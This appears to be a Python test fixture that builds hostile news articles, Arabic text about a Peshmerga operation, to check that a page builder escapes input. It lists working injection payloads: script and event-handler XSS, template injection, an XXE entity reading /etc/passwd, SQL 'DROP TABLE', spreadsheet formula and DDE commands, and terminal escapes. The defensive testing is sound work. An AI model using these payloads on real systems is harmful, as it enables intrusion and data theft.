"""Articles that try to break out of a page: markup, scripts, templates, control characters and the syntaxes of RDF, in every field.

They were made up for the tests. Around the attacks stand sentences that the rules read, so that the attacks reach titles, quotes, names of
events, evidence and identifiers of the graph, and from there every kind of page.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path

from builder.build import Reader, build
from builder.commands.stores import place_kinds
from builder.intake import Tally
from builder.own import NOTHING
from builder.pipeline import background_quads, build_articles
from builder.store import Store

EXAMPLES = Path(__file__).parents[1] / "examples"
# Whatever runs sets this on the page's window; a page that was broken out of has it.
SENTINEL = "pwned"
_RUN = f"window.{SENTINEL}=1"
ATTACKS = (
    f"<script>{_RUN}</script>",
    f'"><img src=x onerror={_RUN}>',
    f"'><svg onload={_RUN}>",
    f"</script><script>{_RUN}</script>",
    f"</title></textarea></style><script>{_RUN}</script>",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "\u202eeltit\u2066 \u202d\u2067",
    "]]> <![CDATA[ <?xml version='1.0'?> <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]> &y; &amp;lt;",
    '""" . <urn:x> <urn:y> "z" \\',
    "'); DROP TABLE article; --",
    '{"@context": {"@vocab": "urn:x"}, "@id": "javascript:1"}',
    "<style>*{display:none}</style><link rel=stylesheet href=//example.org/x.css><base href=//example.org/>",
    '<meta http-equiv="refresh" content="0;url=//example.org/"><iframe src="//example.org/"></iframe>',
    "\x01\x02\x08\x0b\x0c\x1b[31m\x7f\x85\u2028\u2029\ufffe\uffff",
    "<!-- ",
    '=HYPERLINK("http://example.org/?"&A1)',
    "+cmd|' /C calc'!A0",
    "@SUM(1)\t-1",
    "\r=1+1",
    "'=1+1",
    "\x1b]0;owned\x07\x1b[2J\x1b[8m\x9b31m\x90q\x9c",
    "%s %n %00 \\u0000 \\x3cscript\\x3e",
)
_URLS = (
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f'https://example.org/"onmouseover="{_RUN}',
    "https://example.org/?a=1&b=%22%3E#<x>",
    f"JaVaScRiPt:{_RUN}//https://",
    f"https://example.org/';{_RUN};'",
)
_TEXT = """{a} أعلن المتحدث باسم وزارة البيشمركة العميد سالم{a}حسن، اليوم السبت، انطلاق عملية «إرادة {a} النصر» في قضاء مخمور{a}.

وقال المتحدث باسم قيادة العمليات المشتركة اللواء تحسين الخفاجي إن «القوات {a} العراقية والبيشمركة نفذت عملية مشتركة ضد داعش في قرجوخ».

وأدى هجوم شنه تنظيم داعش في كركوك {a} إلى مقتل أربعة من البيشمركة وإصابة خمسة، بحسب {a}.

واجتمع وزير الدفاع العراقي جمعة عناد مع وزير البيشمركة شورش إسماعيل {a} في بغداد يوم الأحد، واتفقا على تشكيل مركز تنسيق مشترك في {a} كركوك.
"""


def lines() -> Iterator[str]:
    """Yield the articles as lines of JSONL, the same attack in every field; one more has half a character and is refused."""
    for number, (attack, url) in enumerate(zip(ATTACKS, cycle(_URLS), strict=False)):
        yield json.dumps(
            {
                "id": f"{attack}{number}",
                "title": f"{attack} البيشمركة تعلن عملية في مخمور {attack}",
                "text": _TEXT.replace("{a}", attack),
                "date": f"2021-08-{number + 1:02d}",
                "source": f"وكالة {attack}",
                "url": url,
            },
            ensure_ascii=number % 2 == 0,
        )
    yield '{"id": "half", "text": "البيشمركة \\ud83d"}'


def fill(folder: Path, work: Path) -> tuple[Path, Tally, list[str]]:
    """Make a store of the articles of examples/ and the hostile ones, through the whole build; return it and what the build said."""
    corpus = work / "hostile.jsonl"
    corpus.write_text("\n".join(lines()) + "\n", encoding="utf-8")
    tally = Tally()
    with Store(folder) as store:
        said = [line for line in build(store, [EXAMPLES, corpus], Reader(build_articles, background_quads), tally) if line]
        tally.links = store.link_events(place_kinds(NOTHING))
    return folder, tally, said
